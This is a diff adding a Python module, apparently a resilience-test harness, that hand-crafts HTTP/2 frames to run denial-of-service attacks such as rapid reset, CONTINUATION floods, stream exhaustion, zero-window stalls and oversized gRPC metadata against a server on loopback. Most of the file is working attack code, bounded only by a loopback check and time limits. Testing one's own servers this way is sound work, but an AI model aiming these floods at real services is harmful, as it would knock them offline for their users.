@@ -1,0 +1,188 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Attacks on an HTTP/2 server, each bounded in bytes, connections and time. For loopback servers that the caller has started:
+Target refuses any other address. Frames are made by hand, because a library would not send what is wrong."""
+
+import contextlib
+import socket
+import ssl
+import struct
+import time
+
+import hpack
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RESET, SETTINGS, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 8, 9
+END_STREAM, END_HEADERS = 1, 4
+SOURCE = "127.0.0.2"  # not the address of the honest client, so that limits per address are seen
+SECONDS = 10  # of one attack
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload
+
+
+def headers_of(path, more=()):
+    """Without compression state, so that the same bytes serve every stream."""
+    encoder = hpack.Encoder()
+    encoder.header_table_size = 0
+    fields = [(":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "x"), ("te", "trailers"),
+              ("content-type", "application/grpc"), *more]
+    return encoder.encode(fields, huffman=False)
+
+
+class Target:
+    """HOST:PORT on loopback; with `authority` (PEM) over TLS."""
+
+    def __init__(self, address, authority=None):
+        host, port = address.rsplit(":", 1)
+        if not host.startswith("127."):
+            raise ValueError(f"{address} is not a loopback address")
+        self.address, self.context = (host, int(port)), None
+        if authority:
+            self.context = ssl.create_default_context(cadata=authority.decode())
+            self.context.set_alpn_protocols(["h2"])
+
+    def connect(self, stack, window=65535):
+        """A connection that has sent preface and settings, and will never acknowledge any."""
+        raw = stack.enter_context(socket.create_connection(self.address, timeout=5, source_address=(SOURCE, 0)))
+        if self.context:
+            raw = stack.enter_context(self.context.wrap_socket(raw, server_hostname="localhost"))
+        raw.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)))
+        raw.settimeout(1)
+        return raw
+
+
+class Sent:
+    """What an attack got rid of."""
+
+    def __init__(self):
+        self.bytes = self.connections = 0
+        self.end = time.monotonic() + SECONDS
+
+    def send(self, connection, data):
+        """False: the server no longer takes it, or the time is up."""
+        if time.monotonic() > self.end:
+            return False
+        try:
+            connection.sendall(data)
+        except OSError:
+            return False
+        self.bytes += len(data)
+        return True
+
+
+def connections(target, stack, sent, count, **named):
+    for _ in range(count):
+        try:
+            connection = target.connect(stack, **named)
+        except OSError:
+            return
+        sent.connections += 1
+        yield connection
+
+
+def many_streams(target, sent, scale, path, connection_count, per_connection, end=b""):
+    """HEADERS on stream after stream; `end`: frames that follow each, made for stream 1."""
+    block = headers_of(path)
+    with contextlib.ExitStack() as stack:
+        for connection in connections(target, stack, sent, max(1, int(connection_count * scale ** 0.5))):
+            for first in range(0, int(per_connection * scale ** 0.5), 100):
+                data = b"".join(frame(HEADERS, END_HEADERS, 2 * stream + 1, block) +
+                                end[:5] + struct.pack(">I", 2 * stream + 1) + end[9:] if end else
+                                frame(HEADERS, END_HEADERS, 2 * stream + 1, block) for stream in range(first, first + 100))
+                if not sent.send(connection, data):
+                    break
+        time.sleep(min(1.0, max(0.0, sent.end - time.monotonic())))  # held open while the server is watched
+
+
+RST = frame(RESET, 0, 1, struct.pack(">I", 8))
+
+
+def streams_without_ack(target, sent, scale):
+    many_streams(target, sent, scale, "/vicinal.v1.InferenceService/Classify", 1, 40_000)
+
+
+def rapid_reset_watch(target, sent, scale):
+    many_streams(target, sent, scale, "/grpc.health.v1.Health/Watch", 1, 40_000, RST)
+
+
+def rapid_reset_classify(target, sent, scale):
+    many_streams(target, sent, scale, "/vicinal.v1.InferenceService/Classify", 1, 40_000, RST)
+
+
+def headers_only(target, sent, scale):
+    many_streams(target, sent, scale, "/vicinal.v1.InferenceService/Classify", 227, 255)
+
+
+def continuation(target, sent, count, size):
+    """One header block that does not end: literals of `size` bytes in all, never indexed."""
+    payload = (b"\x10\x01a" + bytes([size - 4]) + b"x" * (size - 4)) if size < 100 else b"\x10\x01a" + hpack_length(
+        size - 10) + b"x" * (size - 10)
+    with contextlib.ExitStack() as stack:
+        for connection in connections(target, stack, sent, 1):
+            sent.send(connection, frame(HEADERS, 0, 1, headers_of("/vicinal.v1.InferenceService/Classify")))
+            batch = max(1, 65536 // size)
+            data = frame(CONTINUATION, 0, 1, payload) * batch
+            for _ in range(0, count, batch):
+                if not sent.send(connection, data):
+                    break
+
+
+def hpack_length(value):
+    """An integer with a prefix of 7 bits, no Huffman."""
+    if value < 127:
+        return bytes([value])
+    result, value = bytearray([127]), value - 127
+    while value >= 128:
+        result.append(value % 128 + 128)
+        value //= 128
+    result.append(value)
+    return bytes(result)
+
+
+def continuation_flood(target, sent, scale):
+    continuation(target, sent, int(17_000 * scale), 16_000)
+
+
+def small_continuations(target, sent, scale):
+    continuation(target, sent, int(200_000 * scale), 10)
+
+
+def unread_replies(target, sent, scale):
+    block = headers_of("/vicinal.v1.ServerService/GetCapabilities")
+    call = [frame(HEADERS, END_HEADERS, 1, block), frame(DATA, END_STREAM, 1, bytes(5))]
+    with contextlib.ExitStack() as stack:
+        for connection in connections(target, stack, sent, max(1, int(20 * scale)), window=0):
+            for first in range(0, 2500, 50):
+                data = b"".join(part[:5] + struct.pack(">I", 2 * stream + 1) + part[9:]
+                                for stream in range(first, first + 50) for part in call)
+                if not sent.send(connection, data):
+                    break
+        time.sleep(min(1.0, max(0.0, sent.end - time.monotonic())))
+
+
+def metadata(target, sent, scale, more):
+    block = headers_of("/grpc.health.v1.Health/Check", more)
+    with contextlib.ExitStack() as stack:
+        for connection in connections(target, stack, sent, max(1, int(50 * scale))):
+            sent.send(connection, frame(HEADERS, END_HEADERS, 1, block) + frame(DATA, END_STREAM, 1, bytes(5)))
+
+
+def bad_binary_metadata(target, sent, scale):
+    metadata(target, sent, scale, (("odd-bin", "!!!not base64!!!"),))
+
+
+def large_metadata(target, sent, scale):
+    metadata(target, sent, scale, (("large", "x" * 9000),))
+
+
+def idle_connections(target, sent, scale):
+    with contextlib.ExitStack() as stack:
+        for _ in connections(target, stack, sent, int(400 * scale)):
+            if time.monotonic() > sent.end:
+                break
+        time.sleep(min(1.0, max(0.0, sent.end - time.monotonic())))
+
+
+ATTACKS = (streams_without_ack, rapid_reset_watch, rapid_reset_classify, headers_only, continuation_flood, small_continuations,
+           unread_replies, bad_binary_metadata, large_metadata, idle_connections)
